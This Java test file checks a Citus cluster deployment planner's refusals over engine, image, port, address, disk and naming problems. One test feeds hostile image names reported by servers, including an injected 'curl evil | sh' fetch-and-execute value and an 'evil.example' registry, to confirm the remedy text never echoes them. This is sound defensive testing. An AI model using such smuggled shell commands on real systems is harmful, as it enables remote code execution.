package dev.citusdeploy.plan;

import static org.assertj.core.api.Assertions.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;

import dev.citusdeploy.catalog.CatalogFacts;
import dev.citusdeploy.desired.DesiredState;
import dev.citusdeploy.facts.ClusterFacts;
import dev.citusdeploy.facts.ContainerFacts;
import dev.citusdeploy.facts.ContainerFacts.Network;
import dev.citusdeploy.facts.DiskSpace;
import dev.citusdeploy.facts.EngineFacts;
import dev.citusdeploy.facts.HostAccess;
import dev.citusdeploy.facts.HostAccess.DockerAccess;
import dev.citusdeploy.facts.HostFacts;
import dev.citusdeploy.facts.HostFixtures;
import dev.citusdeploy.facts.ImageFacts;
import dev.citusdeploy.facts.NodeFacts;
import dev.citusdeploy.facts.OtherWorkloads;
import dev.citusdeploy.facts.OtherWorkloads.Listener;
import dev.citusdeploy.facts.OtherWorkloads.Namesake;
import dev.citusdeploy.facts.SystemFacts;
import dev.citusdeploy.health.FullDisks;
import dev.citusdeploy.inventory.Inventory;
import dev.citusdeploy.model.HostName;
import dev.citusdeploy.model.ImageTraits;
import dev.citusdeploy.model.NodeName;
import dev.citusdeploy.model.Problem;
import dev.citusdeploy.plan.planner.Planner;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Objects;
import java.util.SequencedMap;
import java.util.function.UnaryOperator;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What facts tell of servers and images that makes a plan refuse: each is one problem, and the
/// other hosts' steps are still shown.
final class ServerMisfortunesTest {
  private final Planner planner = new Planner((password, text) -> password.reveal().equals(text));
  private final SimulatedFleet fleet = new SimulatedFleet();
  private final ClusterSketch sketch = ClusterSketch.of(2);

  @ParameterizedTest
  @CsvSource({"name=rootless,a rootless Docker engine", "name=userns,user namespaces"})
  void anEngineWhoseRootIsNotTheServersIsReported(String option, String words) {
    Problem problem = only(plan(engine(known("w1"), option)));
    assertThat(problem.code()).isEqualTo("rootless-host-network");
    assertThat(problem.what()).contains(words);
    assertThat(problem.where()).isEqualTo("host w1");
    assertThat(problem.remedy()).contains("`network: bridge`");
  }

  @Test
  void anImageForAnotherProcessorIsReportedWithTheCommandThatFetchesTheRightOne() {
    Problem problem = only(plan(image(known("w1"), "sha256:arm", List.of(), "arm64")));
    assertThat(problem.code()).isEqualTo("image-architecture");
    assertThat(problem.remedy())
        .contains("ssh deploy@10.0.0.2 'sudo docker pull --platform linux/amd64 citus:1'");
  }

  @Test
  void oneTagThatMeansTwoImagesIsRefused() {
    Plan plan =
        plan(
            image(known("c1"), "sha256:aaaaaaaaaaaaaaaa", List.of("citus@" + digest('1')), "amd64"),
            image(known("w1"), "sha256:aaaaaaaaaaaaaaaa", List.of(), "amd64"),
            image(
                known("w2"), "sha256:bbbbbbbbbbbbbbbb", List.of("citus@" + digest('2')), "amd64"));
    Problem problem = only(plan);
    assertThat(problem.code()).isEqualTo("images-differ");
    assertThat(problem.where()).isEqualTo("hosts c1, w2");
    assertThat(problem.why()).contains("aaaaaaaaaaaa on c1, w1; bbbbbbbbbbbb on w2");
    assertThat(problem.remedy())
        .contains(
            "ssh deploy@10.0.0.3 'sudo docker pull citus:1'", "`image: citus@" + digest('1') + "`");
  }

  private static String digest(char digit) {
    return "sha256:" + Character.toString(digit).repeat(64);
  }

  /// Each server says itself which image it holds.
  @Test
  void aServerCannotRecommendAnotherImageForTheWholeCluster() {
    for (String said :
        List.of(
            "evil.example/citus@" + digest('6'),
            "citus-evil@" + digest('6'),
            "citus@sha256:6`; curl evil | sh",
            "citus:6",
            "citus")) {
      Problem problem =
          only(
              plan(
                  image(known("c1"), "sha256:bbbbbbbbbbbbbbbb", List.of(said), "amd64"),
                  image(known("w1"), "sha256:bbbbbbbbbbbbbbbb", List.of(said), "amd64"),
                  image(known("w2"), "sha256:aaaaaaaaaaaaaaaa", List.of(), "amd64")));
      assertThat(problem.remedy())
          .as(said)
          .contains("`image: citus@DIGEST`", "`docker buildx imagetools inspect citus:1`")
          .doesNotContain("evil", "66");
    }
  }

  @Test
  void noImageIsRecommendedWhereNoneIsOnMostServers() {
    Problem problem =
        only(
            plan(
                image(known("c1"), "sha256:aa", List.of("citus@" + digest('1')), "amd64"),
                image(known("w1"), "sha256:bb", List.of("citus@" + digest('2')), "amd64"),
                image(known("w2"), "sha256:cc", List.of("citus@" + digest('3')), "amd64")));
    assertThat(problem.remedy()).contains("`image: citus@DIGEST`");
  }

  @Test
  void theImageOfMostServersIsRecommended() {
    Problem problem =
        only(
            plan(
                image(
                    known("c1"),
                    "sha256:bbbbbbbbbbbbbbbb",
                    List.of("docker.io/library/citus@" + digest('6')),
                    "amd64"),
                image(
                    known("w1"),
                    "sha256:aaaaaaaaaaaaaaaa",
                    List.of("citus@" + digest('1')),
                    "amd64"),
                image(
                    known("w2"),
                    "sha256:aaaaaaaaaaaaaaaa",
                    List.of("citus@" + digest('1')),
                    "amd64")));
    assertThat(problem.remedy()).contains("`image: citus@" + digest('1') + "`");
  }

  @Test
  void whatOneRegistryCallsOneImageIsOneWhateverTheEnginesCount() {
    assertThat(
            plan(
                    image(known("w1"), "sha256:aaaa", List.of("citus@sha256:1"), "amd64"),
                    image(known("w2"), "sha256:bbbb", List.of("citus@sha256:1"), "amd64"))
                .blockers())
        .isEmpty();
  }

  @Test
  void imagesForSeveralProcessorsMayDiffer() {
    HostFacts.Known arm =
        machine(known("w2"), "aarch64", new DiskSpace(1L << 33, 1L << 34, 1L << 20));
    assertThat(
            plan(
                    image(known("w1"), "sha256:aaaa", List.of(), "amd64"),
                    image(arm, "sha256:bbbb", List.of(), "arm64"))
                .blockers())
        .isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "0.0.0.0,812,'',postgres,postgres (pid 812),ps -fp 812",
    "127.0.0.1,812,'',postgres,postgres (pid 812),ps -fp 812",
    "0:0:0:0:0:0:0:0,900,other-db,docker-proxy,the container other-db,docker stop other-db",
    "10.0.0.2,'','','',a program that the login may not see,ss -ltnp sport = :5432",
  })
  void aPortThatAnotherUsesIsReportedWithItsUser(
      String address, String pid, String container, String program, String who, String remedy) {
    Problem problem =
        only(plan(listening(known("w1"), new Listener(address, 5432, pid, container, program))));
    assertThat(problem.code()).isEqualTo("port-in-use");
    assertThat(problem.what()).isEqualTo("port 5432 is used by " + who);
    assertThat(problem.where()).isEqualTo("host w1, node w1");
    assertThat(problem.remedy()).contains(remedy, "`postgres: { port: 5433 }`");
  }

  @ParameterizedTest
  @ValueSource(strings = {"running", "restarting", "exited", "dead", "created"})
  void theContainerOfANodeThatCannotHaveItsPortDoesNotHideThat(String state) {
    converge();
    HostFacts.Known host = withState(known("w1"), state);
    Problem problem =
        only(plan(listening(host, new Listener("0.0.0.0", 5432, "812", "other-db", "perl"))));
    assertThat(problem.code()).isEqualTo("port-in-use");
    assertThat(problem.what()).isEqualTo("port 5432 is used by the container other-db");
  }

  @ParameterizedTest
  @CsvSource({"running,'',''", "restarting,'',''", "running,812,postgres"})
  void aSocketThatMayBeTheNodesOwnIsNotHeldAgainstIt(String state, String pid, String program) {
    converge();
    HostFacts.Known host = withState(known("w1"), state);
    Plan plan = plan(listening(host, new Listener("0.0.0.0", 5432, pid, "", program)));
    assertThat(plan.blockers()).isEmpty();
    assertThat(plan.steps()).extracting(Step::id).contains("w1/start");
  }

  @ParameterizedTest
  @ValueSource(strings = {"running", "restarting", "exited"})
  void anAddressThatTheServerDoesNotHaveIsNoReasonToStartAgain(String state) {
    converge();
    HostFacts.Known host = withState(known("w1"), state);
    List<String> there = List.of("127.0.0.1", "10.0.0.99", "fd00:0:0:0:0:0:0:5");
    Problem problem =
        only(plan(host.with(new OtherWorkloads(List.of(), List.of(), List.of(), there))));
    assertThat(problem.code()).isEqualTo("address-missing");
    assertThat(problem.what()).isEqualTo("the server does not have the address 10.0.0.2 of w1");
    assertThat(problem.why()).endsWith("the server has “10.0.0.99, fd00:0:0:0:0:0:0:5”");
    assertThat(problem.remedy()).contains("ssh deploy@10.0.0.2 'sudo ip -brief addr'");

    List<String> with = List.of("127.0.0.1", "10.0.0.2");
    assertThat(
            plan(host.with(new OtherWorkloads(List.of(), List.of(), List.of(), with))).blockers())
        .isEmpty();
  }

  @Test
  void aNodeThatDoesNotListenWhereItShouldIsStartedForThatReason() {
    converge();
    HostFacts.Known host = withState(known("w1"), "running");
    Listener loopback = new Listener("127.0.0.1", 5432, "1", "shop-w1", "postgres");
    Listener right = new Listener("10.0.0.2", 5432, "1", "shop-w1", "postgres");
    List<String> there = List.of("10.0.0.2");

    Plan plan = plan(host.with(new OtherWorkloads(List.of(), List.of(), List.of(loopback), there)));
    assertThat(plan.blockers()).isEmpty();
    assertThat(plan.steps())
        .filteredOn(step -> step.id().equals("w1/start"))
        .extracting(Step::reason)
        .containsExactly("it runs and does not listen on 10.0.0.2:5432");

    assertThat(
            plan(host.with(
                    new OtherWorkloads(List.of(), List.of(), List.of(loopback, right), there)))
                .steps())
        .extracting(Step::reason)
        .contains("it runs but is not healthy");
  }

  @ParameterizedTest
  @ValueSource(strings = {"running", "restarting"})
  void dataThatIsGoneBelowAContainerIsALossAtEveryMoment(String state) {
    converge();
    HostFacts.Known host = withoutData(withState(known("w1"), state));
    assertThat(plan(host).blockers())
        .extracting(Problem::why)
        .singleElement(as(STRING))
        .contains("its container shop-w1 is there");
  }

  @Test
  void whereContainersCouldNotBeSeenThePortIsNotHeldAgainstAnyone() {
    HostFacts.Known host =
        listening(known("w1"), new Listener("0.0.0.0", 5432, "812", "", "postgres"));
    HostFacts.Known lacking =
        new HostFacts.Known(
            host.host(),
            host.system(),
            host.engine(),
            host.images(),
            host.nodes(),
            host.neighbours(),
            new LinkedHashMap<>(),
            new HostAccess(
                "deploy", List.of(), new DockerAccess(false, "", ""), List.of(), List.of()));
    assertThat(only(plan(lacking)).code()).isEqualTo("docker-missing");
  }

  @Test
  void whatListensElsewhereIsNotInTheWay() {
    assertThat(
            plan(listening(
                    known("w1"),
                    new Listener("10.0.0.99", 5432, "1", "", "x"),
                    new Listener("0.0.0.0", 5433, "1", "", "x"),
                    new Listener("0.0.0.0", 5432, "1", "shop-w1", "postgres")))
                .blockers())
        .isEmpty();
  }

  @Test
  void aContainerOfTheNodesNameWithoutItsLabelsIsReported() {
    Problem problem =
        only(
            plan(
                known("w1")
                    .with(
                        new OtherWorkloads(
                            List.of(new Namesake("shop-w1", "running", "postgres:17")),
                            List.of(new Listener("0.0.0.0", 5432, "1", "shop-w1", "postgres")),
                            List.of(),
                            List.of()))));
    assertThat(problem.code()).isEqualTo("container-foreign");
    assertThat(problem.why()).contains("postgres:17", "running");
    assertThat(problem.remedy())
        .contains("ssh deploy@10.0.0.2 'sudo docker rename shop-w1 shop-w1-old'");
  }

  @Test
  void tooLittleRoomForNewDataIsReported() {
    DiskSpace low = new DiskSpace(500L << 20, 2L << 30, 1 << 20);
    Problem problem = only(plan(machine(known("w1"), "x86_64", low)));
    assertThat(problem.code()).isEqualTo("disk-space-low");
    assertThat(problem.what())
        .isEqualTo("too little room at /var/lib/citus-deploy for the data of a new node");
    assertThat(problem.why()).contains("500 MiB of 2048 MiB are free", "1024 MiB are the least");
    assertThat(problem.remedy()).contains("ssh deploy@10.0.0.2 'sudo df -h'");
  }

  @Test
  void tooFewInodesAreReported() {
    DiskSpace low = new DiskSpace(1L << 40, 1L << 41, 150);
    assertThat(plan(machine(known("w1"), "x86_64", low)).blockers())
        .extracting(Problem::why)
        .containsExactly(
            "150 files can still be made there (inodes), 200 are the least to begin with",
            "150 files can still be made there (inodes), 4000 are the least to begin with");
  }

  @Test
  void aFullDiskIsNoObjectionToAClusterThatIsAsDesired() {
    converge();
    assertThat(plan(machine(known("w1"), "x86_64", new DiskSpace(0, 1L << 30, 0))).isConverged())
        .isTrue();
  }

  /// PostgreSQL of a full disk goes on serving for a while, and may not come up again once it was
  /// stopped. A node that does not serve is started: nothing is lost by trying.
  @Test
  void aFullDiskBelowDataIsAProblemOfTheStatus() {
    converge();
    Inventory inventory = sketch.desired().inventory();
    DiskSpace full = new DiskSpace(1L << 20, 2L << 30, 1 << 20);
    DiskSpace inodes = new DiskSpace(1L << 30, 2L << 30, 9);
    DiskSpace fine = new DiskSpace(40L << 20, 2L << 30, 1 << 20);
    DiskSpace unknown = new DiskSpace(0, 0, 0);
    assertThat(FullDisks.problems(inventory, one(machine(known("w1"), "x86_64", full))))
        .singleElement()
        .satisfies(problem -> {
          assertThat(problem.code()).isEqualTo("data-disk-full");
          assertThat(problem.where()).isEqualTo("host w1");
          assertThat(problem.why()).startsWith("1 MiB of 2048 MiB are free");
          assertThat(problem.remedy())
              .contains(
                  "df -h /var/lib/citus-deploy'",
                  "du -axh -d 3 /var/lib/citus-deploy'",
                  "below pgdata");
        });
    assertThat(FullDisks.problems(inventory, one(machine(known("w1"), "x86_64", inodes))))
        .singleElement()
        .extracting(Problem::remedy, STRING)
        .contains("df -i /var/lib/citus-deploy'");
    for (DiskSpace other : List.of(fine, unknown)) {
      assertThat(FullDisks.problems(inventory, one(machine(known("w1"), "x86_64", other))))
          .isEmpty();
    }
    assertThat(
            FullDisks.problems(inventory, one(withoutData(machine(known("w1"), "x86_64", full)))))
        .isEmpty();
  }

  private static ClusterFacts one(HostFacts.Known host) {
    SequencedMap<HostName, HostFacts> hosts = new LinkedHashMap<>();
    hosts.put(host.host(), host);
    return new ClusterFacts(hosts, new CatalogFacts.NotRunning());
  }

  @Test
  void aNodeThatServesIsNotStoppedOnAFullDisk() {
    converge();
    DiskSpace full = new DiskSpace(20L << 20, 1L << 30, 1 << 20);
    HostFacts.Known w1 = machine(known("w1"), "x86_64", full);
    ClusterSketch changed = sketch.withCompose("another");
    Problem problem = only(plan(changed.desired(), w1));
    assertThat(problem.code()).isEqualTo("disk-space-low");
    assertThat(problem.what()).contains("a node that is stopped on a full disk may not come back");
    assertThat(problem.why()).contains("20 MiB of 1024 MiB are free", "32 MiB are the least");
    assertThat(problem.remedy()).contains("sudo df -h").doesNotContain("paths");
    assertThat(plan(changed.desired(), withState(w1, "exited")).blockers()).isEmpty();
  }

  @Test
  void theOtherHostsStepsAreStillShown() {
    Plan plan = plan(machine(known("w1"), "x86_64", new DiskSpace(0, 1L << 30, 1 << 20)));
    assertThat(plan.steps()).extracting(Step::id).contains("c1/initialise", "w2/initialise");
    assertThat(plan.steps()).extracting(Step::id).doesNotContain("w1/write-files");
  }

  @Test
  void aNodeOfAnotherClusterWithThisOnesNameIsReported() {
    converge();
    Problem problem =
        only(plan(withNode(known("w1"), "db7", container("db7", "/opt/citus-deploy/shop/db7"))));
    assertThat(problem.code()).isEqualTo("cluster-name-taken");
    assertThat(problem.where()).isEqualTo("host w1");
    assertThat(problem.why())
        .isEqualTo("its nodes there are db7; their data was made with other secrets");
    assertThat(problem.remedy())
        .contains(
            "ssh deploy@10.0.0.2 'sudo docker ps -a --filter label=dev.citusdeploy.cluster=shop'");
  }

  @Test
  void aContainerMadeFromAnotherFolderIsAnothers() {
    converge();
    Problem problem = only(plan(withNode(known("w1"), "w1", container("w1", "/srv/pg/shop/w1"))));
    assertThat(problem.code()).isEqualTo("cluster-name-taken");
    assertThat(problem.where()).isEqualTo("host w1, node w1");
    assertThat(problem.why()).contains("/srv/pg/shop/w1", "/opt/citus-deploy/shop/w1");
  }

  @Test
  void whatIsLeftOfThisClusterIsNotTakenForAnother() {
    converge();
    String fingerprint = sketch.desired().fingerprint();
    HostFacts.Known host =
        withNode(known("w1"), "w9", container("w9", "/opt/citus-deploy/shop/w9"), fingerprint);
    assertThat(plan(host).blockers()).isEmpty();
  }

  private static Problem only(Plan plan) {
    assertThat(plan.blockers()).hasSize(1);
    return plan.blockers().getFirst();
  }

  private void converge() {
    DesiredState desired = sketch.desired();
    planner.plan(desired, fleet.facts(desired)).steps().forEach(step -> fleet.apply(step, desired));
  }

  private Plan plan(HostFacts... others) {
    return plan(sketch.desired(), others);
  }

  private Plan plan(DesiredState desired, HostFacts... others) {
    ClusterFacts facts = fleet.facts(desired);
    SequencedMap<HostName, HostFacts> hosts = new LinkedHashMap<>(facts.hosts());
    for (HostFacts host : others) {
      hosts.put(host.host(), host);
    }
    CatalogFacts catalog = facts.catalog();
    return planner.plan(desired, new ClusterFacts(hosts, catalog));
  }

  private HostFacts.Known known(String host) {
    HostFacts facts = fleet.facts(sketch.desired()).hosts().get(new HostName(host));
    return (HostFacts.Known) Objects.requireNonNull(facts);
  }

  private static HostFacts.Known listening(HostFacts.Known host, Listener... listeners) {
    return host.with(new OtherWorkloads(List.of(), List.of(listeners), List.of(), List.of()));
  }

  private static HostFacts.Known engine(HostFacts.Known host, String option) {
    return new HostFacts.Known(
        host.host(),
        host.system(),
        new EngineFacts("26", "2.26", List.of(option)),
        host.images(),
        host.nodes(),
        host.neighbours(),
        new LinkedHashMap<>(),
        HostFixtures.ACCESS);
  }

  private static HostFacts.Known image(
      HostFacts.Known host, String id, List<String> digests, String architecture) {
    SequencedMap<String, ImageFacts> images = new LinkedHashMap<>();
    images.put("citus:1", new ImageFacts(id, digests, architecture, "", "", ImageTraits.OFFICIAL));
    return new HostFacts.Known(
        host.host(),
        host.system(),
        host.engine(),
        images,
        host.nodes(),
        host.neighbours(),
        new LinkedHashMap<>(),
        HostFixtures.ACCESS);
  }

  private static HostFacts.Known machine(
      HostFacts.Known host, String architecture, DiskSpace space) {
    SystemFacts system = host.system();
    return new HostFacts.Known(
        host.host(),
        new SystemFacts(
            system.operatingSystem(),
            architecture,
            system.hardware(),
            system.machineId(),
            system.bootId(),
            system.clockOffset(),
            space,
            space.freeBytes() < 8 << 20 || space.freeFiles() < 200 ? space : system.program()),
        host.engine(),
        host.images(),
        host.nodes(),
        host.neighbours(),
        new LinkedHashMap<>(),
        HostFixtures.ACCESS);
  }

  private static ContainerFacts container(String node, String folder) {
    SequencedMap<String, String> labels = new LinkedHashMap<>();
    labels.put("dev.citusdeploy.cluster", "shop");
    labels.put("dev.citusdeploy.node", node);
    labels.put("com.docker.compose.project.working_dir", folder);
    return new ContainerFacts(
        "1", "shop-" + node, "sha256:1", "running", "healthy", labels, Network.UNKNOWN);
  }

  private static HostFacts.Known withState(HostFacts.Known host, String state) {
    return withNodes(
        host,
        node -> {
          ContainerFacts was = Objects.requireNonNull(node.container());
          return node(
              node,
              node.data(),
              new ContainerFacts(
                  was.id(), was.name(), was.imageId(), state, "", was.labels(), Network.UNKNOWN));
        });
  }

  private static HostFacts.Known withoutData(HostFacts.Known host) {
    return withNodes(host, node -> node(node, new NodeFacts.DataFolder.Absent(), node.container()));
  }

  private static NodeFacts node(
      NodeFacts was, NodeFacts.DataFolder data, @Nullable ContainerFacts container) {
    return new NodeFacts(
        was.name(),
        was.files(),
        was.links(),
        data,
        was.started(),
        was.loaded(),
        was.manifest(),
        was.firstStart(),
        container);
  }

  private static HostFacts.Known withNodes(HostFacts.Known host, UnaryOperator<NodeFacts> change) {
    var nodes = new LinkedHashMap<>(host.nodes());
    nodes.replaceAll((_, node) -> change.apply(node));
    return new HostFacts.Known(
        host.host(),
        host.system(),
        host.engine(),
        host.images(),
        nodes,
        host.neighbours(),
        new LinkedHashMap<>(),
        HostFixtures.ACCESS);
  }

  private static HostFacts.Known withNode(
      HostFacts.Known host, String name, ContainerFacts container) {
    return withNode(host, name, container, "another");
  }

  private static HostFacts.Known withNode(
      HostFacts.Known host, String name, ContainerFacts container, String fingerprint) {
    var nodes = new LinkedHashMap<>(host.nodes());
    var node = new NodeName(name);
    nodes.put(
        node,
        new NodeFacts(
            node,
            new LinkedHashMap<>(),
            new LinkedHashMap<>(),
            new NodeFacts.DataFolder.Initialised("shop", name, "17", fingerprint),
            "started",
            null,
            null,
            null,
            container));
    return new HostFacts.Known(
        host.host(),
        host.system(),
        host.engine(),
        host.images(),
        nodes,
        host.neighbours(),
        new LinkedHashMap<>(),
        HostFixtures.ACCESS);
  }
}
